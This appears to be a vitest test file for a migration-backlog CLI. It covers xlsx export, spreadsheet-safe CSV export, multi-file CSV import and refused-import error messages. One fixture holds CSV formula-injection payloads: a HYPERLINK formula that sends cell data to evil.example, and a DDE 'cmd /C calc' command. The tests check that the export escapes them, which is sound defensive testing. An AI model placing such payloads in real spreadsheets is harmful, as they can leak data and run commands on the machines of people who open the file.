// Exports for spreadsheets (an xlsx workbook, CSV that is safe to open) and imports of several
// sheets at once; an import that is refused writes nothing and says where the sheet is wrong.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { runCli } from '../helpers/run-cli.js';
import { read, snapshot, tempDir } from '../helpers/temp-dir.js';
import { workbookRows } from '../helpers/workbook.js';

const CONTOSO = join(import.meta.dirname, '..', '..', 'examples', 'contoso');

describe('export --format xlsx', () => {
  it('writes a bold, frozen header, drop-down lists for enumerations, numbers, booleans and dates as what they are', async () => {
    const out = join(tempDir(), 'backlog.xlsx');
    expect((await runCli(['export', 'workloads', '-f', 'xlsx', '-o', out, '--root', CONTOSO])).code).toBe(0);
    const { workbook, sheets } = await workbookRows(readFileSync(out));
    expect(Object.keys(sheets)).toEqual(['workloads']);
    const sheet = workbook.getWorksheet('workloads')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getRow(1).font).toMatchObject({ bold: true });
    const header = sheets.workloads![0] as string[];
    const row = sheets.workloads!.find((cells) => cells[0] === 'payroll')!;
    const at = (label: string) => row[header.indexOf(label)];
    expect(at('Users')).toBe(40);
    expect(at('Revenue Impacting')).toBe(false);
    expect(at('Milestone')).toEqual(new Date('2027-02-26T00:00:00.000Z'));
    expect(at('Business Drivers')).toBe('dc-exit;end-of-support');
    expect(at('SLA')).toBe(0.995);
    const status = String.fromCharCode(64 + header.indexOf('Status') + 1);
    expect(sheet.dataValidations.model[`range:${status}2:${status}1048576`]).toMatchObject({ type: 'list', formulae: ['"identified,assessing,remediating,ready,scheduled,migrating,migrated,optimized,retired,retained,blocked"'] });
  });

  it('needs --output (a workbook is no text for the terminal)', async () => {
    expect(await runCli(['export', '-f', 'xlsx', '--root', CONTOSO])).toEqual({ code: 2, stdout: '', stderr: 'backlog: an xlsx workbook is a binary file: name it with --output FILE.xlsx\n' });
  });
});

describe('a spreadsheet-safe CSV export', () => {
  const HOSTILE = `workloads:
  - id: crm
    name: '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    owner: "=cmd|' /C calc'!A0"
    description: "'=already quoted"
    tags: ['+1', '@x', plain]
    x-observed: "a → b"
`;

  it("writes formulas after a `'` and a byte-order mark; import reads them back exactly", async () => {
    const root = tempDir({ 'backlog.yaml': HOSTILE });
    const sheet = (await runCli(['export'], { cwd: root })).stdout;
    expect(sheet.startsWith('\uFEFFWorkload ID,')).toBe(true);
    expect(sheet.split('\r\n')[1]).toBe(
      `crm,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",''=already quoted,,,'=cmd|' /C calc'!A0,,,,,,,,,identified,,,,,,,,,,,,,,,,,,'+1;@x;plain,,a → b`,
    );
    writeFileSync(join(root, 'workloads.csv'), sheet);
    const before = snapshot(root);
    expect(await runCli(['import', 'csv', 'workloads.csv'], { cwd: root })).toEqual({ code: 0, stdout: 'Nothing to change.\ncsv: 1 row read; workloads: 0 added, 0 updated, 1 unchanged\n', stderr: '' });
    expect(snapshot(root)).toEqual(before);
  });

  it('--no-bom leaves the byte-order mark out; --output writes the sheet to a file', async () => {
    const root = tempDir({ 'backlog.yaml': HOSTILE });
    expect((await runCli(['export', '--no-bom'], { cwd: root })).stdout.startsWith('Workload ID,')).toBe(true);
    expect(await runCli(['export', 'metrics', '-o', 'metrics.csv'], { cwd: root })).toEqual({ code: 0, stdout: '', stderr: '' });
    expect(read(root, 'metrics.csv')).toBe('\uFEFFOutcome ID,Metric ID,Name,Kind,Unit,Baseline,Target,Current,Due,Measure,Tags,Notes\r\n');
  });
});

describe('import csv of several sheets at once', () => {
  it('takes each file for the collection its name says, and puts metrics into their outcome', async () => {
    const root = tempDir({
      'backlog.yaml': 'outcomes:\n  - id: cost\n    title: Lower run cost # agreed with finance\n',
      'waves.csv': 'Wave ID,Name,Order\nw1,Pilot,1\n',
      'sheet.csv': 'Workload ID,Workload,Wave,Business Outcomes\ncrm,CRM,w1,cost\n',
      'metrics.csv': 'Outcome ID,Metric ID,Name,Baseline,Target,Due\ncost,run-cost,Monthly run cost,"185,000",120000,31/12/2027\n',
    });
    const result = await runCli(['import', 'csv', 'sheet.csv', 'waves.csv', 'metrics.csv'], { cwd: root });
    expect(result).toEqual({
      code: 0,
      stdout: 'Wrote workloads.yaml, backlog.yaml, waves.yaml.\ncsv: 3 rows read; workloads: 1 added, 0 updated, 0 unchanged; outcomes: 0 added, 1 updated, 0 unchanged; waves: 1 added, 0 updated, 0 unchanged\n',
      stderr: '',
    });
    expect(read(root, 'backlog.yaml')).toBe(
      'outcomes:\n  - id: cost\n    title: Lower run cost # agreed with finance\n    metrics:\n      - id: run-cost\n        name: Monthly run cost\n        baseline: 185000\n        target: 120000\n        due: 2027-12-31\n',
    );
    expect(parse(read(root, 'workloads.yaml'))).toEqual({ workloads: [{ id: 'crm', name: 'CRM', outcomes: ['cost'], wave: 'w1' }] });
  });
});

describe('text as a CSV sheet writes it', () => {
  it('keeps leading zeros in ids, names and x- fields of new entities; reads an x- `true` or `7` as YAML would', async () => {
    const root = tempDir({ 'backlog.yaml': 'project:\n  name: X\n', 'workloads.csv': 'Workload ID,Workload,x-code,x-count,x-flag,x-version\r\n0012,0042,0007,7,true,1.10\r\n' });
    expect((await runCli(['import', 'csv', 'workloads.csv'], { cwd: root })).code).toBe(0);
    expect(read(root, 'workloads.yaml')).toBe('workloads:\n  - id: "0012"\n    name: "0042"\n    x-code: "0007"\n    x-count: 7\n    x-flag: true\n    x-version: "1.10"\n');
  });
});

describe('a refused import writes nothing and says so', () => {
  it('lists every value it cannot take, where the sheet has it, never a count of updates', async () => {
    const root = tempDir({
      'backlog.yaml': 'workloads:\n  - { id: crm, name: CRM, owner: Ana }\n',
      'workloads.csv': 'id,Milestone,Users,Revenue Impacting\ncrm,3/1/2027,"1,200",TRUE\nerp,2027-02-30,lots,perhaps\n',
    });
    const before = snapshot(root);
    const result = await runCli(['import', 'csv', 'workloads.csv'], { cwd: root });
    expect(result).toEqual({
      code: 1,
      stdout: '',
      stderr: [
        'workloads.csv:2, column "Milestone": `milestone`: `3/1/2027` is ambiguous: 2027-01-03 (day first) or 2027-03-01 (month first)',
        '  hint: say which with --date-format DMY or --date-format MDY',
        'workloads.csv:3, column "Milestone": `milestone`: not a date: write YYYY-MM-DD, a day that exists (`2027-02-30`)',
        'workloads.csv:3, column "Users": `users` must be a number, not `lots`',
        'workloads.csv:3, column "Revenue Impacting": `revenue_impacting` must be true or false, not `perhaps`',
        '  hint: write TRUE or FALSE (or Yes or No)',
        'backlog: the import was refused (4 values it cannot take); nothing was written',
        'csv: 2 rows read; nothing was written',
        '',
      ].join('\n'),
    });
    expect(snapshot(root)).toEqual(before);
  });

  it('--date-format says how to read day/month dates', async () => {
    const root = tempDir({ 'backlog.yaml': 'workloads:\n  - { id: crm, name: CRM, owner: Ana }\n', 'workloads.csv': 'id,Milestone\ncrm,3/1/2027\n' });
    expect((await runCli(['import', 'csv', 'workloads.csv', '--date-format', 'MDY'], { cwd: root })).code).toBe(0);
    expect(read(root, 'backlog.yaml')).toBe('workloads:\n  - { id: crm, name: CRM, owner: Ana, milestone: 2027-03-01 }\n');
    expect(await runCli(['import', 'csv', 'workloads.csv', '--date-format', 'YMD'], { cwd: root })).toEqual({ code: 2, stdout: '', stderr: 'backlog: --date-format YMD: write DMY (31/01/2027) or MDY (01/31/2027)\n' });
  });

  it('a reference to nothing is refused at the row that wrote it', async () => {
    const root = tempDir({ 'backlog.yaml': 'workloads:\n  - { id: crm, name: CRM, owner: Ana }\n', 'servers.csv': 'Machine ID,Workloads,Cores\nS1,crm,2\nS2,ERP,4\n' });
    const before = snapshot(root);
    const result = await runCli(['import', 'csv', 'servers.csv'], { cwd: root });
    expect(result).toEqual({
      code: 1,
      stdout: '',
      stderr: 'backlog: the change would add errors; nothing was written\n  servers.csv:3, column "Workloads"  error  `workloads` names workload `ERP`, which does not exist  UNKNOWN_REFERENCE\ncsv: 2 rows read; nothing was written\n',
    });
    expect(snapshot(root)).toEqual(before);
  });
});
